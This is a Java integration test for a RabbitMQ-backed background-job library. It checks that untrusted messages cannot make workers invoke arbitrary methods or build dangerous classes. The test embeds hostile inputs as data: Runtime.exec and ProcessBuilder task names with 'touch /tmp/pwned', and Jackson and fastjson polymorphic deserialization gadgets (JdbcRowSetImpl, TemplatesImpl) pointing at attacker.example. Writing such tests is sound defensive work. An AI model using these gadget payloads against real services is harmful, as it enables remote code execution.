package dev.jobs;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;

import com.rabbitmq.client.AMQP;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * What a message published by anyone who can reach the exchange can make a worker do: run a
 * registered task, by its name, with values of its declared types, and nothing else. Class and
 * method names, bean names and Jackson's polymorphic "gadget" shapes are published raw, as an
 * attacker would, through the real broker.
 */
class UntrustedMessagesIntegrationTests {

	private static final Set<Class<?>> PLAIN_JSON_TYPES = Set.of(String.class, Boolean.class, Integer.class,
			Long.class, BigInteger.class, BigDecimal.class, Double.class, LinkedHashMap.class, ArrayList.class);

	private final JobsContextRunner runner = new JobsContextRunner();

	@AfterEach
	void cleanUp() {
		this.runner.cleanUp();
	}

	@Test
	void messageNamingAnythingButARegisteredTaskIsDeadLetteredAsUnknownTaskAndNothingRuns() {
		this.runner.worker().withUserConfiguration(TaskConfiguration.class).run((context) -> {
			List<String> names = List.of("no-such-task", "java.lang.Runtime.exec", "java.lang.Runtime#exec",
					"java.lang.ProcessBuilder.start", "com.example.Foo#bar", "plainService", "PlainService.run",
					"plainService.run", "gadgetTasks", "GadgetTasks.notATask", "dev.jobs.UntrustedMessagesIntegrationTests"
							+ "$GadgetTasks.takeObject",
					"jobs.", "");
			for (int i = 0; i < names.size(); i++) {
				publish("unknown-" + i, names.get(i), "[\"touch /tmp/pwned\"]");
			}

			JobHandle<String> next = context.getBean(Jobs.class).enqueue(GadgetTasks::echo, "still working");

			assertThat(next.await(Duration.ofSeconds(20))).isEqualTo("still working");
			await().atMost(Duration.ofSeconds(20))
				.untilAsserted(() -> assertThat(this.runner.deadLetters()).hasSize(names.size()));
			// An empty task name is not a job at all (MALFORMED, unread); every other name is a job of no task.
			assertThat(this.runner.deadLetters()).extracting((letter) -> letter.header("x-jobs-reason"))
				.containsOnly("UNKNOWN_TASK", "MALFORMED")
				.filteredOn("MALFORMED"::equals)
				.hasSize(1);
			assertThat(this.runner.deadLetters()).filteredOn((letter) -> "UNKNOWN_TASK".equals(letter.header("x-jobs-reason")))
				.extracting((letter) -> letter.header("x-jobs-id"))
				.containsExactlyInAnyOrderElementsOf(IntStream.range(0, names.size() - 1).mapToObj((i) -> "unknown-" + i).toList());
			assertThat(context.getBean(PlainService.class).calls()).isZero();
			assertThat(context.getBean(GadgetTasks.class).received()).isEmpty();
		});
	}

	@Test
	void polymorphicGadgetPayloadsArriveAsPlainJsonValuesOrAreDeadLetteredNeverAsTheClassesTheyName() {
		String rowSet = "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/x\","
				+ "\"autoCommit\":true}]";
		String templates = "{\"@class\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\","
				+ "\"_bytecodes\":[\"yv66vgAAADQ=\"],\"_name\":\"x\",\"_tfactory\":{}}";
		String fastjson = "{\"@type\":\"java.net.URL\",\"val\":\"http://attacker.example/\"}";
		String wrapped = "{\"java.lang.ProcessBuilder\":{\"command\":[\"touch\",\"/tmp/pwned\"]}}";
		List<String> gadgets = List.of(rowSet, templates, fastjson, wrapped);
		List<String> tasks = List.of("GadgetTasks.takeObject", "GadgetTasks.takeMap", "GadgetTasks.takeRecord",
				"GadgetTasks.takeList");
		this.runner.worker().withUserConfiguration(TaskConfiguration.class).run((context) -> {
			for (String task : tasks) {
				for (int g = 0; g < gadgets.size(); g++) {
					publish(task + "-" + g, task, "[" + gadgets.get(g) + "]");
				}
				// The gadget one level down, where a record or a map holds an Object.
				publish(task + "-nested", task, "[{\"name\":\"n\",\"detail\":" + rowSet + "}]");
			}
			int published = tasks.size() * (gadgets.size() + 1);

			JobHandle<String> next = context.getBean(Jobs.class).enqueue(GadgetTasks::echo, "still working");

			assertThat(next.await(Duration.ofSeconds(30))).isEqualTo("still working");
			GadgetTasks received = context.getBean(GadgetTasks.class);
			await().atMost(Duration.ofSeconds(30))
				.untilAsserted(() -> assertThat(received.received().size() + this.runner.deadLetters().size())
					.isEqualTo(published));
			assertThat(this.runner.deadLetters())
				.allSatisfy((letter) -> assertThat(letter.header("x-jobs-reason")).isEqualTo("ARGUMENT_TYPE"));
			assertThat(received.received()).allSatisfy(UntrustedMessagesIntegrationTests::assertPlain);
			// What the codec does, pinned: Object and Map take every object as a plain map, Object and
			// List every array as a plain list; a record ignores the fields it does not declare, and
			// its Object field takes the nested gadget as a plain list. The rest does not fit.
			assertThat(received.received()).hasSize(14);
			assertThat(this.runner.deadLetters()).extracting((letter) -> letter.header("x-jobs-id"))
				.containsExactlyInAnyOrder("GadgetTasks.takeMap-0", "GadgetTasks.takeRecord-0", "GadgetTasks.takeList-1",
						"GadgetTasks.takeList-2", "GadgetTasks.takeList-3", "GadgetTasks.takeList-nested");
		});
	}

	/** Every value, at any depth, is one JSON reads as: a map, a list, text, a number, a boolean. */
	private static void assertPlain(Object value) {
		if (value == null) {
			return;
		}
		if (value instanceof Payload payload) {
			assertPlain(payload.name());
			assertPlain(payload.detail());
			return;
		}
		assertThat(PLAIN_JSON_TYPES).as("the class a message made of " + value).contains(value.getClass());
		if (value instanceof Map<?, ?> map) {
			map.values().forEach(UntrustedMessagesIntegrationTests::assertPlain);
		}
		if (value instanceof List<?> list) {
			list.forEach(UntrustedMessagesIntegrationTests::assertPlain);
		}
	}

	private void publish(String id, String task, String args) {
		byte[] body = ("{\"v\":1,\"id\":\"" + id + "\",\"task\":\"" + task + "\",\"queue\":\"" + this.runner.queue()
				+ "\",\"args\":" + args + ",\"attempt\":1,\"enqueuedAt\":\"" + Instant.now() + "\"}")
			.getBytes(StandardCharsets.UTF_8);
		LocalBroker.withChannel((channel) -> {
			channel.confirmSelect();
			channel.basicPublish(this.runner.topology().exchange(), this.runner.queue(), true,
					new AMQP.BasicProperties.Builder().contentType("application/json").deliveryMode(2).build(), body);
			try {
				channel.waitForConfirmsOrDie(10_000);
			}
			catch (InterruptedException | java.util.concurrent.TimeoutException ex) {
				throw new IllegalStateException("publish of job " + id + " not confirmed", ex);
			}
			return null;
		});
	}

	/** A record whose one field a message may fill with anything JSON holds. */
	record Payload(String name, Object detail) {
	}

	/** Tasks that take the most permissive parameter types there are, and keep what they were given. */
	static class GadgetTasks {

		private final List<Object> received = new CopyOnWriteArrayList<>();

		List<Object> received() {
			return this.received;
		}

		@BackgroundTask
		void takeObject(Object value) {
			this.received.add(value);
		}

		@BackgroundTask
		void takeMap(Map<String, Object> value) {
			this.received.add(value);
		}

		@BackgroundTask
		void takeRecord(Payload value) {
			this.received.add(value);
		}

		@BackgroundTask
		void takeList(List<Object> value) {
			this.received.add(value);
		}

		@BackgroundTask
		String echo(String text) {
			return text;
		}

		public void notATask(String command) {
			this.received.add(command);
		}

	}

	/** A bean with a public method, which is no task. */
	static class PlainService {

		private final AtomicInteger calls = new AtomicInteger();

		public void run(String command) {
			this.calls.incrementAndGet();
		}

		int calls() {
			return this.calls.get();
		}

	}

	@Configuration(proxyBeanMethods = false)
	static class TaskConfiguration {

		@Bean
		GadgetTasks gadgetTasks() {
			return new GadgetTasks();
		}

		@Bean
		PlainService plainService() {
			return new PlainService();
		}

	}

}
